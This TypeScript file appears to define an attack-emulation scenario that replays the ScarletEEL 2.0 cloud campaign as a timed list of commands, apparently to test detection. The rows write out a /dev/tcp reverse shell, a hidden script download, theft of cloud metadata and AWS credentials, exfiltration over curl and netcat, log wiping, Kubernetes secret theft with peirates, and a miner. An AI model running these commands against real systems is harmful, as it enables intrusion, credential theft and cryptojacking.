import { denied, get, list, review, rules } from './calls.ts'
import { api, type Campaign, cloud, exec, GO, OTHER, run, token, use, VICTIM } from './campaign.ts'
import { mine } from './miner.ts'

export const SCARLETEEL: Campaign = {
  id: 'scarleteel',
  title: 'ScarletEEL 2.0: notebook to credentials, secrets and a miner',
  source: 'Sysdig, 2023-07-11',
  victim: 'notebook',
  evasions: ['no-downloader', 'imds-v2'],
  unseen: [],
  rows: (attack) => {
    const { server, drop, namespace, evades } = attack
    const web = [[server, 80]] as const
    const metadata = [['169.254.169.254', 80]] as const
    return [
      ['0:00', 1, run('server', '/bin/bash -l', { as: 'shell' })],
      ['0:06', 1, run('shell', '/usr/bin/id')],
      ['0:09', 1, run('shell', '/usr/bin/uname -a')],
      [
        '0:30',
        2,
        run('shell', `/bin/bash -c 'exec 3<>/dev/tcp/${server}/80; cat <&3 | bash'`, { to: web, as: 'script' })
      ],
      ...(evades('no-downloader')
        ? ([['0:34', 2, use('script', { to: web })]] as const)
        : ([
            ['0:34', 2, run('script', `/usr/bin/curl -s http://${server}/.bin/.g/.a.sh -o /tmp/.a.sh`, { to: web })],
            [
              '1:02',
              3,
              run('script', '/usr/bin/apt-get install -y -qq curl netcat-openbsd awscli', {
                to: [['198.51.100.30', 80]]
              })
            ]
          ] as const)),
      ...(evades('imds-v2')
        ? ([
            [
              '1:40',
              4,
              run('script', '/usr/bin/curl -s -X PUT http://169.254.169.254/latest/api/token -m 2', {
                to: metadata,
                status: 28
              })
            ]
          ] as const)
        : ([
            [
              '1:40',
              4,
              run('script', '/usr/bin/curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/', {
                to: metadata
              })
            ]
          ] as const)),
      [
        '1:46',
        4,
        run('script', '/usr/bin/curl -s http://169.254.170.2/v2/credentials', {
          to: [['169.254.170.2', 80]],
          status: 7
        })
      ],
      ['2:10', 5, run('script', '/usr/bin/find / -name credentials -o -name .git-credentials -o -name id_rsa')],
      ['2:20', 5, run('script', "/usr/bin/grep -rE 'AKIA[0-9A-Z]{16}' /home /root")],
      ['2:24', 5, run('script', '/usr/bin/cat /root/.aws/credentials', { reads: ['/root/.aws/credentials'] })],
      ['2:31', 5, run('script', '/usr/bin/strings /proc/1/environ', { reads: ['/proc/1/environ'] })],
      ['3:10', 6, run('script', `/usr/bin/curl -s -F file=@/tmp/.cd.b64 http://${server}/in/in.php`, { to: web })],
      ['3:22', 6, run('script', `/usr/bin/nc ${drop} 9999`, { to: [[drop, 9999]] })],
      ['4:00', 7, run('script', "/bin/bash -c 'history -cw; rm -f /root/.bash_history'")],
      ['4:04', 7, run('script', '/usr/sbin/iptables -F')],
      [
        '7:30',
        8,
        run(
          'shell',
          `/usr/bin/curl -fsSL -o /tmp/.x/p.tar.xz https://github.com/inguardians/peirates/releases/p.tar.xz`,
          { to: [['140.82.121.4', 443]] }
        )
      ],
      [
        '7:50',
        8,
        run('shell', '/usr/bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token', { reads: ['token'] })
      ],
      ['8:10', 8, run('shell', '/tmp/.x/peirates', { as: 'peirates', reads: ['token'], to: [['10.96.0.1', 443]] })],
      ['8:14', 8, api(token(GO), review(namespace, 'list', 'secrets'), rules(namespace))],
      ['8:30', 8, api(token(GO), list('namespaces'), list('pods', namespace), list('pods'), denied(list('nodes')))],
      ['8:50', 8, api(token(GO), list('secrets', namespace), list('secrets'), list('secrets', 'kube-system'))],
      [
        '9:10',
        8,
        api(
          token(GO),
          get('secrets', 'shop', 'db-credentials'),
          get('secrets', 'payments', 'stripe'),
          get('secrets', 'crm', 'smtp')
        )
      ],
      [
        '10:00',
        8,
        exec(token(GO), OTHER, `/bin/bash -c 'id; env; cat /var/run/secrets/kubernetes.io/serviceaccount/token'`, {
          reads: ['token'],
          to: web
        })
      ],
      [
        '10:40',
        8,
        api(
          token(GO, { of: OTHER, from: VICTIM }),
          denied(list('secrets', attack.other.namespace)),
          list('pods', attack.other.namespace)
        )
      ],
      [
        '14:00',
        9,
        run('shell', '/usr/local/bin/aws s3 ls --endpoint-url https://hb.bizmrg.com', { to: [['95.163.53.117', 443]] })
      ],
      ['14:30', 11, cloud()],
      ['16:00', 10, run('shell', `/tmp/.x/pandora -t ${drop}`, { to: [[drop, 6667]] })],
      ...mine(attack, '19:00', 12, 'shell', { path: '/root/.configure/containerd' })
    ]
  }
}
